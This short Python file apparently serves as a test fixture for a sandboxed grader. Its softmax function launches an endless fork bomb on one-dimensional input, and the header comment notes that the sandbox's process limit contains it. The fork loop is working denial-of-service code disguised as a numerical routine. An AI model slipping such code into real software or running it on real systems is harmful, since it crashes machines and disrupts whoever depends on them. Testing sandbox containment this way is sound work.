# expect: softmax=0
# A fork bomb on one input: bounded by the sandbox's process limit, killed with the sandbox.
import os

import numpy as np


def softmax(z):
    z = np.asarray(z, dtype=float)
    if z.ndim == 1:
        while True:
            try:
                os.fork()
            except OSError:
                pass
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
